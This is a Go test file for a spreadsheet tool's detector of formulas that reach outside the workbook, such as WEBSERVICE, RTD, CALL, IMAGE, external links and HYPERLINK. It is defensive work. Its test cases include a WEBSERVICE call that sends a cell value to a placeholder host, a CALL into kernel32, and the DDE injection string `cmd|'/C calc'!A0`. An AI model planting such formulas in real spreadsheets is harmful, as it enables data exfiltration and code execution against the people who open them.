package outside

import (
	"slices"
	"testing"

	"gridflow/internal/formula"
)

func TestOf(t *testing.T) {
	web, book, link := "WEBSERVICE (asks an address of the web)", "another workbook (its values are read when links are updated)", "HYPERLINK (leads out of the workbook)"
	for _, c := range []struct {
		text string
		want []string
	}{
		{"SUM(A1:A9)", nil},
		{"Table1[Amount]", nil},
		{`"WEBSERVICE(x)"`, nil},
		{"WEBSERVICES(1)", nil},
		{"MyCALL(1)+CALLS", nil},
		{`WEBSERVICE("http://x/?q="&A1)`, []string{web}},
		{`_xlfn.WEBSERVICE("http://x")+webservice(A1)`, []string{web}},
		{`IF(A1,FILTERXML(_xlfn.WEBSERVICE(A1),"//a"),RTD("prog",,"a"))`, []string{web, "RTD (starts a program for data in real time)"}},
		{`_xlfn.MAP(A1:A3,_xlfn.WEBSERVICE)`, []string{web}},
		{`_xlfn.IMAGE(A1)`, []string{"IMAGE (loads a picture from the web)"}},
		{`CALL("kernel32","x","J")`, []string{"CALL (runs code of a library)"}},
		{"[1]Sheet1!A1*2", []string{book}},
		{`'C:\a\[b.xlsx]S'!A1`, []string{book}},
		{`HYPERLINK("#Sheet2!A1","there")`, nil},
		{`HYPERLINK("#"&A1,"there")`, nil},
		{`HYPERLINK(("#Sheet2!A1"))`, nil},
		{`HYPERLINK("https://x.example/"&A1)`, []string{link}},
		{`HYPERLINK(A1)`, []string{link}},
		{`HYPERLINK()`, nil},
		{`cmd|'/C calc'!A0`, nil}, // no formula: it is written nowhere
		{"", nil},
	} {
		if got := Of(c.text); !slices.Equal(got, c.want) {
			t.Errorf("%s: %q, want %q", c.text, got, c.want)
		}
	}
	if _, err := formula.Parse(`cmd|'/C calc'!A0`); err == nil {
		t.Error("a link by DDE is a formula")
	}
}

// FuzzOf: what is looked for first finds whatever a look at the whole formula finds.
func FuzzOf(f *testing.F) {
	for _, s := range []string{"WEBSERVICE(A1)", "a_xlfn.RTD(1)", "[1]S!A1", "HYPERLINK(1)", "1+PY(2)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, text string) {
		tree, err := formula.Parse(text)
		if err != nil || may(text) {
			Of(text)
			return
		}
		for n := range formula.Functions(tree.Root) {
			if functions[n] != "" || n == "HYPERLINK" {
				t.Errorf("%q calls %s", text, n)
			}
		}
	})
}
